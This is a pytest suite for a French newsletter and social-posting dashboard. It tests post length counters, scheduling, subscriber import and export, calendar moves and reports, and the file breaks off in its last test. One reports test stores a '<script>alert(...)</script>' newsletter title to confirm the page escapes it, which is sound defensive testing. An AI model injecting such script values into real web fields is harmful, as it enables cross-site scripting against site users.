"""The pages' actions over real HTTP: each one calls the library and shows what happened."""

from __future__ import annotations

import json
import re
from datetime import datetime, time, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlmodel import Session, select

from campaign.audience.subscribers import add_subscriber, describe_subscriber, unsubscribe
from campaign.config import SocialAccount
from campaign.models import (
    AccountSnapshot,
    Event,
    MailingList,
    Newsletter,
    NewsletterStatus,
    Post,
    PostStatus,
    Subscriber,
    SubscriberStatus,
    utcnow,
)
from campaign.newsletters import queue
from campaign.newsletters.records import create_newsletter
from campaign.social import TransportError
from campaign.social.length import check_length
from campaign.social.networks import transport_for
from campaign.social.posts import create_post, publish_post
from campaign.social.x import CREDITS_WAIT, REPLY_REFUSED
from campaign.social.x_refusals import out_of_credits
from campaign.taxonomy import Taxonomy
from tests.dashboard.conftest import Served, page_csrf
from tests.newsletters import regions_sample

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


EVENT_IN_DAYS = 5  # the catalogue's event: newsletters only feature events still to come


def _event_day(served: Served) -> str:
    return _local(served, EVENT_IN_DAYS).date().isoformat()


def _people(served: Served, count: int = 3) -> None:
    with Session(served.engine) as session:  # type: ignore[arg-type]
        for number in range(count):
            add_subscriber(
                session,
                f"p{number}@example.org",
                list_names=["Newsletter nationale"],
                profile={"first_name": f"P{number}", "region": "Bretagne"},
                actor="test",
            )
        session.add(
            Event(
                source_id="E1",
                title="Forum de Rennes",
                starts_at=_local(served, EVENT_IN_DAYS, 10, 0),  # still to come
                city="Rennes",
                region="Bretagne",
                theme="Se loger",
            )
        )
        session.commit()


def _local(served: Served, days: int, hour: int = 9, minute: int = 30) -> datetime:
    """A local time ``days`` days from today (still to come: the pages refuse past times)."""
    zone = served.settings.zone
    today = utcnow().astimezone(zone).date()
    return datetime.combine(today + timedelta(days=days), time(hour, minute), tzinfo=zone)


def _field(moment: datetime) -> str:
    """A time as a ``datetime-local`` field holds it."""
    return moment.strftime("%Y-%m-%dT%H:%M")


def _post(client, url: str, form_page: str, data: dict, **kwargs):  # type: ignore[no-untyped-def]
    return client.post(
        url, data={"csrf": page_csrf(client, form_page), **data}, allow_redirects=False, **kwargs
    )


def test_the_live_counter_is_x_s_weighted_length(served: Served) -> None:
    editor = served.client("editor")
    text = "Bienvenue 🎉 https://example.org/" + "a" * 100
    fragment = editor.get(served.url + "/posts/length", params={"text": text}).text
    assert f"<strong>{check_length(text)[0]}</strong> / 280" in fragment
    assert check_length(text)[0] == len("Bienvenue ") + 2 + 1 + 23
    long = "Une phrase assez longue pour remplir un message. " * 12
    fragment = editor.get(served.url + "/posts/length", params={"text": long}).text
    assert "Trop long" in fragment
    threaded = editor.get(served.url + "/posts/length", params={"text": long, "split": "1"}).text
    assert re.search(r"Fil de <strong>3</strong> messages", threaded)


def test_the_live_counter_counts_as_the_account_s_network(served: Served) -> None:
    accounts = served.settings.social.accounts
    accounts["mois_masto"] = SocialAccount(
        network="mastodon", handle="moisess", instance_url="https://mastodon.example"
    )
    accounts["mois_bsky"] = SocialAccount(network="bluesky", handle="moisess.bsky.social")
    editor = served.client("editor")
    text = "Bienvenue 🎉 https://example.org/" + "a" * 300

    def counter(account: str, **extra: str) -> str:
        params = {"text": text, "account": account, **extra}
        return editor.get(served.url + "/posts/length", params=params).text

    on_mastodon = counter("mois_masto")
    assert "<strong>35</strong> / 500 caractères (selon Mastodon)" in on_mastodon
    assert "Trop long" not in on_mastodon
    on_bluesky = counter("mois_bsky")
    assert f"<strong>{len('Bienvenue 🎉 https://example.org/') + 300}</strong> / 300" in (
        on_bluesky
    )
    assert "(selon Bluesky)" in on_bluesky and "Trop long" in on_bluesky
    long = "Une phrase assez longue pour remplir un message. " * 8  # 391 characters
    split = {"text": long, "split": "1"}
    assert re.search(r"Fil de <strong>2</strong> messages", counter("mois_bsky", **split))
    assert f"<strong>{len(long.strip())}</strong> / 500" in counter("mois_masto", **split)
    assert (
        "règles de Mastodon"
        in editor.get(served.url + "/posts/length", params={"account": "mois_masto"}).text
    )


def test_composing_a_thread_with_an_image_and_its_description(served: Served) -> None:
    editor = served.client("editor")
    long = "Une phrase assez longue pour remplir un message. " * 12
    when = _local(served, 3)
    answer = _post(
        editor,
        served.url + "/posts/new",
        served.url + "/posts/new",
        {
            "account": "prix_ess",
            "text": long,
            "split": "1",
            "at": _field(when),
            "alt": "Logo",
        },
        files={"image": ("logo.png", PNG, "image/png")},
    )
    assert answer.status_code == 303, answer.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        (post,) = session.exec(select(Post)).all()
    assert post.account == "prix_ess" and len(post.parts) == 3
    assert post.status == PostStatus.scheduled
    assert post.scheduled_at == when
    assert post.images[0]["alt"] == "Logo"
    assert Path(post.images[0]["path"]).read_bytes() == PNG
    assert (
        Path(post.images[0]["path"]).parent == Path(served.settings.dashboard.media_dir).resolve()
    )
    page = editor.get(f"{served.url}/posts/{post.id}")
    assert 'alt="Logo"' in page.text and "1/3" in page.text
    image = editor.get(f"{served.url}/posts/{post.id}/image/0")
    assert image.content == PNG
    assert editor.get(f"{served.url}/posts/{post.id}/image/1").status_code == 404


@pytest.mark.parametrize(
    ("files", "alt", "message"),
    [
        ({"image": ("logo.png", PNG, "image/png")}, "", "Décrivez l&#39;image logo.png"),
        (
            {"image": ("notes.png", b"not a picture", "image/png")},
            "Logo",
            "notes.png n&#39;est pas une image JPEG, PNG, WEBP ou GIF",
        ),
    ],
)
def test_an_image_needs_a_description_and_must_be_a_picture(
    served: Served, files: dict, alt: str, message: str
) -> None:
    editor = served.client("editor")
    answer = _post(
        editor,
        served.url + "/posts/new",
        served.url + "/posts/new",
        {"account": "mois_ess", "text": "Bonjour", "alt": alt},
        files=files,
    )
    assert answer.status_code == 400 and message in answer.text
    assert "Bonjour" in answer.text  # what was typed is kept
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.exec(select(Post)).all() == []


def test_newsletter_create_edit_live_count_schedule_cancel(served: Served) -> None:
    _people(served)
    editor = served.client("editor")
    form = {
        "title": "Novembre",
        "subject": "Le Mois",
        "template": "mois-ess",
        "lists": "Newsletter nationale",
        "events_from": _event_day(served),
        "events_to": _event_day(served),
        "events_regions": "subscriber",
        "intro": "Bonjour à tous",
    }
    refused = _post(
        editor,
        served.url + "/newsletters/new",
        served.url + "/newsletters/new",
        {**form, "lists": "Liste inconnue"},
    )
    assert refused.status_code == 400 and "Il n&#39;y a pas de liste appelée" in refused.text
    assert 'value="Novembre"' in refused.text  # the form keeps what was typed
    created = _post(editor, served.url + "/newsletters/new", served.url + "/newsletters/new", form)
    assert created.status_code == 303
    number = int(re.search(r"/newsletters/(\d+)", created.headers["location"]).group(1))
    live = editor.get(
        served.url + "/newsletters/live",
        params={
            "lists": "Newsletter nationale",
            "events_from": _event_day(served),
            "events_to": _event_day(served),
            "events_regions": "subscriber",
        },
    ).text
    assert re.search(r'data-count="events">1<', live)
    assert re.search(r'data-count="audience">3<', live)
    assert "Bretagne : 1" in live
    wrong = editor.get(
        served.url + "/newsletters/live", params={"events_regions": "Atlantide"}
    ).text
    assert "La région « Atlantide » n&#39;est pas dans la liste des régions" in wrong

    edit_page = f"{served.url}/newsletters/{number}/edit"
    assert "Bonjour à tous" in editor.get(edit_page).text
    edited = _post(editor, edit_page, edit_page, {**form, "title": "Novembre (2)", "intro": ""})
    assert edited.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        newsletter = session.get(Newsletter, number)
        assert newsletter.title == "Novembre (2)" and "intro" not in newsletter.content
        assert newsletter.event_rule["regions"] == ["subscriber"]

    show = f"{served.url}/newsletters/{number}"
    past = _post(editor, f"{show}/schedule", show, {"at": _field(_local(served, -1))})
    assert past.status_code == 400 and "est déjà passé : choisissez un moment à venir" in past.text
    when = _local(served, 4, 9, 0)
    scheduled = _post(editor, f"{show}/schedule", show, {"at": _field(when)})
    assert scheduled.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        newsletter = session.get(Newsletter, number)
        assert newsletter.status == NewsletterStatus.scheduled
        assert newsletter.scheduled_at == when
    page = editor.get(show + "?fait=newsletter-scheduled").text
    assert "le service en marche (campaign serve) l'enverra" in page
    assert "<code>campaign serve</code>" in page  # it must be running then
    paused = _post(editor, f"{show}/pause", show, {})
    assert paused.status_code == 400 and "seule une newsletter en cours d&#39;envoi" in paused.text
    asked = _post(editor, f"{show}/cancel", show, {})
    assert asked.status_code == 200 and "Annuler la newsletter « Novembre (2) » ?" in asked.text
    assert re.search(r'data-count="audience">3<', asked.text)  # to whom it would have gone
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.get(Newsletter, number).status == NewsletterStatus.scheduled
    cancelled = _post(editor, f"{show}/cancel", show, {"confirm": "oui"})
    assert cancelled.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.get(Newsletter, number).status == NewsletterStatus.cancelled
    assert "Modifier" not in editor.get(show).text


def test_an_invalid_sender_address_is_shown_by_its_field_and_nothing_is_saved(
    served: Served,
) -> None:
    """A From no message can carry would fail every recipient of the send: refused here."""
    _people(served)
    editor = served.client("editor")
    page = served.url + "/newsletters/new"
    form = {
        "title": "Novembre",
        "subject": "Le Mois",
        "template": "mois-ess",
        "lists": "Newsletter nationale",
        "from_name": "Les Prix",
        "from_address": "prix-at-lemois-ess.org",
    }
    refused = _post(editor, page, page, form)
    assert refused.status_code == 400
    error = re.search(r'<p id="from_address-error"[^>]*>(.*?)</p>', refused.text, re.S)
    assert error and "n'est pas une adresse d'expéditeur valide" in error.group(1)
    assert "prix-at-lemois-ess.org" in error.group(1)
    field = re.search(r'<input id="from_address"[^>]*>', refused.text)
    assert field and 'aria-invalid="true"' in field.group(0)
    assert 'aria-describedby="from_address-error"' in field.group(0)
    assert 'value="Novembre"' in refused.text  # what was typed is kept
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.exec(select(Newsletter)).all() == []

    created = _post(editor, page, page, {**form, "from_address": "Prix@Lemois-ESS.org"})
    assert created.status_code == 303
    number = int(re.search(r"/newsletters/(\d+)", created.headers["location"]).group(1))
    edit_page = f"{served.url}/newsletters/{number}/edit"
    assert 'value="prix@lemois-ess.org"' in editor.get(edit_page).text
    edited = _post(editor, edit_page, edit_page, {**form, "from_address": "élodie@exemple.fr"})
    assert edited.status_code == 400 and 'id="from_address-error"' in edited.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        newsletter = session.get(Newsletter, number)
        assert (newsletter.from_name, newsletter.from_address) == (
            "Les Prix",
            "prix@lemois-ess.org",
        )


def test_preview_shows_blocking_checks_and_test_sends_go_to_the_outbox(served: Served) -> None:
    _people(served)
    editor = served.client("editor")
    form = {"title": "Prix", "subject": "Votez", "template": "prix-ess"}
    refused = _post(
        editor,
        served.url + "/newsletters/new",
        served.url + "/newsletters/new",
        {**form, "lists": "Newsletter nationale"},
    )
    # The template's manifest names the field it needs, by its label, on the form itself.
    assert refused.status_code == 400
    assert "action_url" in refused.text and "Lien du bouton" in refused.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        # A newsletter stored without it (before the manifest said so): the preview's checks.
        lists = [row.id for row in session.exec(select(MailingList)).all()]
        stored = Newsletter(**form, list_ids=lists)
        session.add(stored)
        session.commit()
        number = stored.id
    preview = editor.get(f"{served.url}/newsletters/{number}/preview")
    assert preview.status_code == 200
    assert "ne peut pas partir telle quelle" in preview.text  # prix-ess needs action_url
    assert "action_url" in preview.text
    page = f"{served.url}/newsletters/{number}/edit"
    assert 'name="field-prix-ess-action_url"' in editor.get(page).text
    saved = _post(
        editor,
        page,
        page,
        {
            **form,
            "lists": "Newsletter nationale",
            "field-prix-ess-action_url": "https://example.org/vote",
        },
    )
    assert saved.status_code == 303, saved.text
    preview = editor.get(
        f"{served.url}/newsletters/{number}/preview", params={"as_email": "p2@example.org"}
    )
    assert "ne peut pas partir" not in preview.text and "p2@example.org" in preview.text
    html = editor.get(
        f"{served.url}/newsletters/{number}/preview.html", params={"as_email": "p2@example.org"}
    )
    assert "P2" in html.text and "sandbox" in html.headers["content-security-policy"]
    text = editor.get(f"{served.url}/newsletters/{number}/preview", params={"part": "text"})
    assert '<pre class="text-part">' in text.text
    sent = _post(
        editor,
        f"{served.url}/newsletters/{number}/test",
        f"{served.url}/newsletters/{number}/preview",
        {"to": "a@example.org, b@example.org", "as_email": "p1@example.org"},
    )
    assert sent.status_code == 200
    assert sent.text.count("écrit dans la boîte d'envoi locale") == 2
    outbox = list((Path(served.settings.mail.outbox_dir) / "new").iterdir())
    assert len(outbox) == 2
    assert "[TEST]" in outbox[0].read_text(encoding="utf-8")


def test_a_new_template_drops_the_texts_only_the_old_one_had(served: Served) -> None:
    _people(served)
    editor = served.client("editor")
    with Session(served.engine) as session:  # type: ignore[arg-type]
        lists = [row.id for row in session.exec(select(MailingList)).all()]
        content = {"action_url": "https://example.org/vote", "intro": "Voici"}
        stored = Newsletter(
            title="Prix", subject="Votez", template="prix-ess", list_ids=lists, content=content
        )
        session.add(stored)
        session.commit()
        number = stored.id
    page = f"{served.url}/newsletters/{number}/edit"
    form = {"title": "Prix", "subject": "Votez", "template": "mois-ess", "intro": "Voici"}
    saved = _post(editor, page, page, {**form, "lists": "Newsletter nationale"})
    assert saved.status_code == 303, saved.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        newsletter = session.get(Newsletter, number)
        assert newsletter.template == "mois-ess" and newsletter.content == {"intro": "Voici"}


def test_subscribers_search_export_and_dry_run_import(served: Served, tmp_path: Path) -> None:
    _people(served)
    editor = served.client("editor")
    found = editor.get(served.url + "/subscribers", params={"q": "p1@", "region": "Bretagne"})
    assert "p1@example.org" in found.text and "p2@example.org" not in found.text
    assert "1 personne." in found.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        person = session.exec(select(Subscriber).where(Subscriber.email == "p1@example.org")).one()
    exported = editor.get(f"{served.url}/subscribers/{person.id}/export")
    assert "attachment" in exported.headers["content-disposition"]
    data = json.loads(exported.content)
    assert data["email"] == "p1@example.org" and data["consent_log"]

    sheet = tmp_path / "nouveaux.csv"
    sheet.write_text("courriel;prénom\nnew@example.org;Nina\nbad-address;X\n", encoding="utf-8")
    page = served.url + "/subscribers/import"
    with sheet.open("rb") as handle:
        dry = _post(
            editor,
            page,
            page,
            {"dry_run": "1", "list_name": "Essai"},
            files={"file": ("nouveaux.csv", handle, "text/csv")},
        )
    assert dry.status_code == 200 and "rien n'est enregistré" in dry.text
    assert re.search(r"<strong>1</strong> abonnés ajoutés", dry.text)
    assert "bad-address" in dry.text  # the skipped row is listed with its value
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert (
            session.exec(select(Subscriber).where(Subscriber.email == "new@example.org")).first()
            is None
        )
    not_a_sheet = _post(
        editor, page, page, {}, files={"file": ("x.csv", b"\x00\x01\x02", "text/csv")}
    )
    assert not_a_sheet.status_code == 400


def test_settings_show_what_is_missing_and_never_a_secret(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CAMPAIGN_X_MOIS_ESS_CONSUMER_KEY", "tres-secret-consumer-key")
    admin = served.client("admin")
    page = admin.get(served.url + "/settings").text
    assert "tres-secret-consumer-key" not in page
    assert "CAMPAIGN_X_MOIS_ESS_CONSUMER_SECRET" in page  # still missing, named
    assert "CAMPAIGN_X_MOIS_ESS_CONSUMER_KEY" not in page  # set, so not listed as missing
    assert "test-secret-key" not in page  # the signing key
    # The transport in force: the local outbox, and where it writes.
    assert f"boîte d'envoi locale ({served.settings.mail.outbox_dir}) : rien ne part" in page
    assert "@Mois_ESS (mois_ess)" in page and "@Prix_ESS (prix_ess)" in page
    sent = _post(
        admin,
        served.url + "/settings/test-message",
        served.url + "/settings",
        {"to": "moi@example.org"},
    )
    assert (
        sent.status_code == 200
        and "moi@example.org : écrit dans la boîte d'envoi locale" in sent.text
    )
    (message,) = (Path(served.settings.mail.outbox_dir) / "new").iterdir()
    assert "Message de test du tableau de bord" in message.read_text(encoding="utf-8")


def test_pages_write_days_as_the_newsletters_and_posts_do(served: Served) -> None:
    editor = served.client("editor")
    planner = editor.get(f"{served.url}/posts/planner?day=2026-11-01&account=mois_ess").text
    assert "Évènements du dimanche 1er novembre 2026" in planner
    week = editor.get(f"{served.url}/calendar?view=week&day=2026-11-05").text
    assert "Semaine du lundi 2 novembre 2026" in week
    assert '<span class="wd">jeudi </span>5<span class="wd"> novembre</span>' in week
    month = editor.get(f"{served.url}/calendar?view=month&day=2026-11-05").text
    assert re.search(r"<h1>\s*Novembre 2026", month)


def test_event_times_are_the_event_s_own_with_its_zone_named(served: Served) -> None:
    def at(zone: str, *args: int) -> datetime:
        return datetime(*args, tzinfo=ZoneInfo(zone))

    with Session(served.engine) as session:  # type: ignore[arg-type]
        session.add_all(
            [
                Event(
                    source_id="R1",
                    title="Forum de Saint-Denis",
                    starts_at=at("Indian/Reunion", 2026, 11, 5, 18),
                    ends_at=at("Indian/Reunion", 2026, 11, 5, 20),
                    timezone="Indian/Reunion",
                    region="La Réunion",
                ),
                Event(
                    source_id="G1",
                    title="Débat à Basse-Terre",
                    starts_at=at("America/Guadeloupe", 2026, 11, 5, 18),
                    timezone="America/Guadeloupe",
                    region="Guadeloupe",
                ),
                Event(
                    source_id="A1",
                    title="Portes ouvertes",
                    starts_at=at("Europe/Paris", 2026, 11, 5),
                    ends_at=at("Europe/Paris", 2026, 11, 6),
                    all_day=True,
                    timezone="Europe/Paris",
                    region="Bretagne",
                ),
            ]
        )
        session.commit()
    editor = served.client("editor")

    events = editor.get(f"{served.url}/events?date_from=2026-11-05&date_to=2026-11-05").text
    assert "jeudi 5 novembre 2026, 18h – 20h (heure de La Réunion)" in events
    assert "jeudi 5 novembre 2026, 18h (heure de Guadeloupe)" in events
    assert "jeudi 5 novembre 2026, toute la journée" in events
    # (the page's random CSRF tokens may hold "0h" too)
    assert not re.search(r"(?<!\d)0h", re.sub(r'name="csrf" value="[^"]*"', "", events))

    planner = editor.get(f"{served.url}/posts/planner?day=2026-11-05&account=mois_ess").text
    assert "jeudi 5 novembre, 18h – 20h (heure de La Réunion)" in planner
    assert "jeudi 5 novembre, 18h (heure de Guadeloupe)" in planner
    assert "jeudi 5 novembre, toute la journée" in planner


def test_moving_a_pending_item_on_the_calendar(served: Served) -> None:
    editor = served.client("editor")
    first, later = _local(served, 2), _local(served, 4)
    created = _post(
        editor,
        served.url + "/posts/new",
        served.url + "/posts/new",
        {"account": "mois_ess", "text": "Bonjour", "at": _field(first)},
    )
    post_id = int(re.search(r"/posts/(\d+)", created.headers["location"]).group(1))
    day = first.date().isoformat()
    calendar = f"{served.url}/calendar?day={day}"
    moved = _post(
        editor,
        served.url + "/calendar/move",
        calendar,
        {"kind": "post", "item_id": str(post_id), "at": _field(later), "day": day},
    )
    assert moved.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        post = session.get(Post, post_id)
        assert post.scheduled_at == later and post.status == PostStatus.scheduled
    week = editor.get(f"{served.url}/calendar?day={later.date().isoformat()}&view=week").text
    assert re.search(rf'data-day="{later.date().isoformat()}">.*?Bonjour', week, re.S)
    past = _post(
        editor,
        served.url + "/calendar/move",
        calendar,
        {"kind": "post", "item_id": str(post_id), "at": _field(_local(served, -2))},
    )
    assert past.status_code == 400 and "est déjà passé : choisissez un moment à venir" in past.text
    bad = _post(
        editor,
        served.url + "/calendar/move",
        calendar,
        {"kind": "newsletter", "item_id": "999", "at": _field(later)},
    )
    assert bad.status_code == 400 and "Il n&#39;y a pas de newsletter numéro 999" in bad.text


def test_a_missed_post_is_shown_apart_and_comes_back_with_a_new_time(served: Served) -> None:
    with Session(served.engine) as session:  # type: ignore[arg-type]
        post = create_post(
            session,
            served.settings,
            account="mois_ess",
            text="Le forum commence",
            scheduled_at=_local(served, -1),
            now=_local(served, -2),
        )
        post.status = PostStatus.missed
        post.last_error = "missed yesterday by 25 h, beyond the 300 s grace"
        session.add(post)
        session.commit()
        post_id = post.id
    editor = served.client("editor")
    home = editor.get(served.url + "/").text
    assert "1 élément manqué" in home and "beyond the 300 s grace" in home
    yesterday = _local(served, -1).date().isoformat()
    month = editor.get(f"{served.url}/calendar?view=week&day={yesterday}").text
    assert re.search(r'class="item s-missed k-post"[^>]*title="missed yesterday', month)
    show = f"{served.url}/posts/{post_id}"
    assert "Programmer à nouveau" in editor.get(show).text
    again = _local(served, 1)
    answer = _post(editor, f"{show}/schedule", show, {"at": _field(again)})
    assert answer.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        post = session.get(Post, post_id)
        assert (post.status, post.scheduled_at, post.last_error) == (
            PostStatus.scheduled,
            again,
            "",
        )
    assert "élément manqué" not in editor.get(served.url + "/").text


def test_publishing_now_without_credentials_is_a_dry_run(served: Served) -> None:
    editor = served.client("editor")
    created = _post(
        editor,
        served.url + "/posts/new",
        served.url + "/posts/new",
        {"account": "mois_ess", "text": "Le Mois commence"},
    )
    page = created.headers["location"]
    post_id = int(re.search(r"/posts/(\d+)", page).group(1))
    show = f"{served.url}/posts/{post_id}"
    asked = _post(editor, f"{show}/publish", show, {})
    assert asked.status_code == 200 and "Publier maintenant sur @" in asked.text
    assert "rien ne partira vers X" in asked.text  # no credentials: said before publishing
    with Session(served.engine) as session:  # type: ignore[arg-type]
        assert session.get(Post, post_id).status == PostStatus.draft
    published = _post(editor, f"{show}/publish", show, {"confirm": "oui"})
    assert published.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        post = session.get(Post, post_id)
        assert post.status == PostStatus.published and post.dry_run
    assert "rien n'a été envoyé à X" in editor.get(show).text


def test_a_thread_written_by_hand_and_a_new_text_for_a_post(served: Served) -> None:
    editor = served.client("editor")
    written = "Premier message\n---\nDeuxième message\n---\nTroisième message"
    fragment = editor.get(
        served.url + "/posts/length", params={"text": written, "thread": "1"}
    ).text
    assert re.search(r"Fil de <strong>3</strong> messages", fragment)
    created = _post(
        editor,
        served.url + "/posts/new",
        served.url + "/posts/new",
        {"account": "mois_ess", "text": written, "thread": "1"},
    )
    assert created.status_code == 303
    post_id = int(re.search(r"/posts/(\d+)", created.headers["location"]).group(1))
    with Session(served.engine) as session:  # type: ignore[arg-type]
        post = session.get(Post, post_id)
        assert post.parts == ["Premier message", "Deuxième message", "Troisième message"]
        assert post.status == PostStatus.draft
    show = f"{served.url}/posts/{post_id}"
    assert "Premier message\n---\nDeuxième message" in editor.get(show).text  # as typed
    edited = _post(editor, f"{show}/edit", show, {"text": "Un seul message, finalement"})
    assert edited.status_code == 303
    with Session(served.engine) as session:  # type: ignore[arg-type]
        post = session.get(Post, post_id)
        assert post.parts == ["Un seul message, finalement"] and post.status == PostStatus.draft
    empty = _post(editor, f"{show}/edit", show, {"text": "  "})
    assert empty.status_code == 400 and "Le texte est vide" in empty.text


def _events_on(served: Served, day: datetime) -> None:
    """Two events that day: one over by midday (10:00, two hours), one in the evening."""
    with Session(served.engine) as session:  # type: ignore[arg-type]
        for number, (hour, region, theme) in enumerate(
            [(10, "Bretagne", "Se loger"), (18, "Normandie", "Travailler")], 1
        ):
            session.add(
                Event(
                    source_id=f"P{number}",
                    title=f"Rencontre {number}",
                    starts_at=day.replace(hour=hour, minute=0),
                    city="Rennes" if number == 1 else "Caen",
                    region=region,
                    theme=theme,
                    url=f"https://lemois-ess.example.org/m/{number}",
                )
            )
        session.commit()


def test_the_planner_drafts_from_the_catalogue_then_approval_schedules_or_says_why_not(
    served: Served,
) -> None:
    day = _local(served, 3, 0, 0)
    _events_on(served, day)
    editor = served.client("editor")
    planner = f"{served.url}/posts/planner?day={day.date().isoformat()}&account=mois_ess"
    planned = _post(
        editor,
        served.url + "/posts/planner",
        planner,
        {"day": day.date().isoformat(), "account": "mois_ess", "times": "09:00,12:30,17:30"},
    )
    assert planned.status_code == 200, planned.text
    page = planned.text
    assert "2 brouillons préparés" in page
    # The stage's notes: nothing left for 17:30 (the morning event is over, the other taken).
    assert "17h30 : plus aucun évènement à mettre en avant ce jour-là" in page
    assert "Coût estimé chez X" in page and "2 messages (2 avec un lien)" in page
    assert "mode essai" in page  # no credentials for @Mois_ESS in the tests
    with Session(served.engine) as session:  # type: ignore[arg-type]
        drafts = session.exec(select(Post).order_by(Post.scheduled_at)).all()
    assert [p.status for p in drafts] == [PostStatus.draft] * 2
    # The text of templates/posts/evenement.txt.j2, not a stand-in.
    assert drafts[0].text.startswith("Aujourd'hui à 10h, Rennes : Rencontre 1")
    assert "#MoisESS" in drafts[0].text and "https://lemois-ess.example.org/m/1" in drafts[0].text
    assert [p.scheduled_at for p in drafts] == [
        day.replace(hour=9),
        day.replace(hour=12, minute=30),
    ]

    # One draft's time has passed meanwhile: approval schedules the other and says why not.
    with Session(served.engine) as session:  # type: ignore[arg-type]
        late = session.get(Post, drafts[1].id)
        late.scheduled_at = _local(served, -1)
        session.add(late)
        session.commit()
    approved = _post(
        editor,
        served.url + "/posts/planner/approve",
        planner,
        {
            "day": day.date().isoformat(),
            "account": "mois_ess",
            "post_ids": [str(drafts[0].id), str(drafts[1].id)],
        },
    )
    assert approved.status_code == 200
    assert "Les publications validées sont programmées : 1" in approved.text
    assert f"Publication {drafts[1].id}</a> : son heure est déjà passée" in approved.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        statuses = [session.get(Post, p.id).status for p in drafts]
    assert statuses == [PostStatus.scheduled, PostStatus.draft]
    # Planning again leaves the slots already taken alone.
    again = _post(
        editor,
        served.url + "/posts/planner",
        planner,
        {"day": day.date().isoformat(), "account": "mois_ess", "times": "09:00"},
    )
    assert "0 brouillon préparé" in again.text and "est déjà prévue à cette heure" in again.text
    nothing = _post(
        editor,
        served.url + "/posts/planner/approve",
        planner,
        {"day": day.date().isoformat(), "account": "mois_ess"},
    )
    assert nothing.status_code == 400 and "Cochez les brouillons à valider" in nothing.text
    bad_times = _post(
        editor,
        served.url + "/posts/planner",
        planner,
        {"day": day.date().isoformat(), "account": "mois_ess", "times": "9 heures"},
    )
    assert bad_times.status_code == 400 and "« 9 heures » n&#39;est pas une heure" in bad_times.text


def _sent_newsletter(served: Served) -> int:
    """A newsletter sent to three people: two delivered, one bounced; opens and clicks, one of
    them by a machine and one by a bot. And an earlier one, without figures."""
    from campaign.models import Delivery, DeliveryStatus, Hit, HitClass, HitKind

    _people(served)
    with Session(served.engine) as session:  # type: ignore[arg-type]
        newsletter = Newsletter(
            title="Le Mois commence",
            subject="S",
            template="mois-ess",
            status=NewsletterStatus.sent,
            sent_at=datetime.fromisoformat("2026-11-02T09:00:00+01:00"),
        )
        earlier = Newsletter(
            title="Les Prix ESS : dernière ligne droite",
            subject="S",
            template="prix-ess",
            status=NewsletterStatus.sent,
            sent_at=datetime.fromisoformat("2026-05-30T09:00:00+02:00"),
        )
        session.add_all([newsletter, earlier])
        session.commit()
        people = session.exec(select(Subscriber).order_by(Subscriber.id)).all()
        statuses = [DeliveryStatus.sent, DeliveryStatus.sent, DeliveryStatus.bounced]
        rows = [
            Delivery(newsletter_id=newsletter.id, subscriber_id=p.id, email=p.email, status=s)
            for p, s in zip(people, statuses, strict=True)
        ]
        session.add_all(rows)
        session.commit()
        for kind, classification, row in [
            (HitKind.open, HitClass.human, rows[0]),
            (HitKind.open, HitClass.human, rows[0]),
            (HitKind.open, HitClass.human, rows[1]),
            (HitKind.open, HitClass.machine, rows[1]),
            (HitKind.click, HitClass.human, rows[0]),
            (HitKind.click, HitClass.bot, rows[1]),
        ]:
            session.add(
                Hit(
                    kind=kind,
                    classification=classification,
                    newsletter_id=newsletter.id,
                    delivery_id=row.id,
                )
            )
        session.commit()
        return newsletter.id  # type: ignore[return-value]


def test_the_reports_page_shows_the_reports_stage_s_tables_and_charts(served: Served) -> None:
    number = _sent_newsletter(served)
    viewer = served.client("viewer")
    page = viewer.get(served.url + "/reports").text
    row = re.search(r"<tr>\s*<td class=\"text\">Le Mois commence</td>(.*?)</tr>", page, re.S)
    assert row, "the newsletter's row"
    cells = re.findall(r"<td[^>]*>([^<]*)</td>", row.group(1))
    # Date, Destinataires, Destinataires réels, Ouvertures, Clics: the team's own columns.
    assert cells == ["2 novembre 2026", "3", "2", "3", "1"]
    for label in ("Ouvertures uniques", "Taux d&#39;ouverture", "Ouvertures automatiques"):
        assert label in page
    assert "100,0\u00a0%" in page  # two people opened, of two delivered
    assert 'data-chart="opens_clicks"' in page
    assert "Abonnés mois par mois" in page and "Réseaux sociaux" in page
    empty = viewer.get(
        served.url + "/reports", params={"date_from": "2000-01-01", "date_to": "2000-12-31"}
    ).text
    assert "Le Mois commence" not in empty and "du 1er janvier 2000 au 31 décembre 2000" in empty
    wrong = viewer.get(
        served.url + "/reports", params={"date_from": "2026-12-01", "date_to": "2026-01-01"}
    )
    assert wrong.status_code == 400 and "1er janvier 2026) est avant la date de début" in wrong.text
    with Session(served.engine) as session:  # type: ignore[arg-type]
        session.add(
            Newsletter(
                title='<script>alert("bilan")</script>',
                subject="S",
                template="mois-ess",
                status=NewsletterStatus.sent,
                sent_at=datetime.fromisoformat("2026-11-03T09:00:00+01:00"),
            )
        )
        session.commit()
    hostile = viewer.get(served.url + "/reports").text
    assert "<script>alert" not in hostile and "&lt;script&gt;alert(" in hostile
    detail = viewer.get(f"{served.url}/reports/newsletters/{number}").text
    assert "Clics par lien" in detail and "Rejets et échecs" in detail
    assert f"/reports/newsletters/{number}" in viewer.get(f"{served.url}/newsletters/{number}").text


def test_the_reports_page_opens_with_the_key_figures(served: Served) -> None:
    _sent_newsletter(served)
    viewer = served.client("viewer")
